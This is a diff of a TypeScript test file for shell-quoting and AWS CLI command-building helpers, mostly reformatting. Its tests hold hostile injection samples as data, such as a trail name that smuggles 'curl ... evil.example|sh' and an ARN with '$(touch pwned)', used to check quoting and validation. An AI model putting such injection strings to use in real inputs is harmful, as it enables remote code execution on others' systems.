@@ -9,41 +9,48 @@ const shellRoundTrip = (quoted: string) => execFileSync('sh', ['-c', `printf %s 
 
 // Characters a shell treats specially, so generated strings hit quoting's edge cases far more often than chance.
 const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
-const SHELL_SPECIAL = [..."'\"`$\\;|&()<>{}[]*?!#~ \t\n=%^-,.:/@"];
+const SHELL_SPECIAL = [...'\'"`$\\;|&()<>{}[]*?!#~ \t\n=%^-,.:/@'];
 
 describe('shellQuote', () => {
-  it('always single-quotes, writes a quote as \'\\\'\' and the empty string as \'\'', () => {
+  it("always single-quotes, writes a quote as '\\'' and the empty string as ''", () => {
     expect(shellQuote('example-reports')).toBe("'example-reports'");
     expect(shellQuote("ops' ssh")).toBe("'ops'\\'' ssh'");
     expect(shellQuote('')).toBe("''");
   });
 
   it('gives the shell back exactly the hostile names of the issue, with nothing run', () => {
-    for (const name of ['x;curl${IFS}-s${IFS}evil.example|sh;#', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/$(touch${IFS}pwned)', "a'b`id`\"$HOME\"\\"]) {
+    for (const name of ['x;curl${IFS}-s${IFS}evil.example|sh;#', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/$(touch${IFS}pwned)', 'a\'b`id`"$HOME"\\']) {
       expect(shellRoundTrip(shellQuote(name))).toBe(name);
     }
   });
 
   it('round-trips any string through sh (printf %s prints it back byte for byte)', () => {
     // An argv cannot hold NUL, and a lone surrogate has no UTF-8 form: neither can reach a shell at all.
-    const text = fc.oneof(
-      fc.string({ unit: 'binary', maxLength: 40 }),
-      fc.string({ unit: fc.constantFrom(...SHELL_SPECIAL, 'a', 'Z', '0'), maxLength: 40 }),
-    ).filter((s) => !s.includes('\0') && !LONE_SURROGATE.test(s));
-    fc.assert(fc.property(text, (value) => {
-      expect(shellRoundTrip(shellQuote(value))).toBe(value);
-    }), { numRuns: 200 });
+    const text = fc
+      .oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: fc.constantFrom(...SHELL_SPECIAL, 'a', 'Z', '0'), maxLength: 40 }))
+      .filter((s) => !s.includes('\0') && !LONE_SURROGATE.test(s));
+    fc.assert(
+      fc.property(text, (value) => {
+        expect(shellRoundTrip(shellQuote(value))).toBe(value);
+      }),
+      { numRuns: 200 },
+    );
   });
 });
 
 describe('awsCommand', () => {
   it('writes flags in kebab-case with every value quoted, booleans as --flag / --no-flag, lists as several words', () => {
     const command = awsCommand('cloudtrail', 'update-trail', {
-      name: 'example-trail', region: 'us-east-1', enableLogFileValidation: false, isMultiRegionTrail: true, skipped: undefined,
+      name: 'example-trail',
+      region: 'us-east-1',
+      enableLogFileValidation: false,
+      isMultiRegionTrail: true,
+      skipped: undefined,
     });
     expect(command).toBe("aws cloudtrail update-trail --name 'example-trail' --region 'us-east-1' --no-enable-log-file-validation --is-multi-region-trail");
-    expect(awsCommand('ec2', 'start-instances', { instanceIds: ['i-0123456789abcdef0', 'i-0fedcba9876543210'] }))
-      .toBe("aws ec2 start-instances --instance-ids 'i-0123456789abcdef0' 'i-0fedcba9876543210'");
+    expect(awsCommand('ec2', 'start-instances', { instanceIds: ['i-0123456789abcdef0', 'i-0fedcba9876543210'] })).toBe(
+      "aws ec2 start-instances --instance-ids 'i-0123456789abcdef0' 'i-0fedcba9876543210'",
+    );
     expect(awsCommand('s3api', 'put-public-access-block', { s3BucketName: 'b' })).toBe("aws s3api put-public-access-block --s3-bucket-name 'b'");
   });
 
@@ -55,10 +62,12 @@ describe('awsCommand', () => {
 
   it('gives no command, saying why, when an event value is not a valid name for its API', () => {
     const trail = checked('x;curl${IFS}-s${IFS}evil.example|sh;#', 'trail name', (v) => /^[A-Za-z0-9._-]{3,128}$/.test(v));
-    expect(awsCommand('cloudtrail', 'get-trail-status', { name: trail, region: regionArg('us-east-1') }))
-      .toBe('no command: the trail name in the event is not a valid trail name');
-    expect(awsCommand('cloudtrail', 'get-trail-status', { name: checked('example-trail', 'trail name', () => true), region: regionArg('us-east-1') }))
-      .toBe("aws cloudtrail get-trail-status --name 'example-trail' --region 'us-east-1'");
+    expect(awsCommand('cloudtrail', 'get-trail-status', { name: trail, region: regionArg('us-east-1') })).toBe(
+      'no command: the trail name in the event is not a valid trail name',
+    );
+    expect(awsCommand('cloudtrail', 'get-trail-status', { name: checked('example-trail', 'trail name', () => true), region: regionArg('us-east-1') })).toBe(
+      "aws cloudtrail get-trail-status --name 'example-trail' --region 'us-east-1'",
+    );
   });
 
   it('accepts only region codes as --region, and says when the event names none', () => {
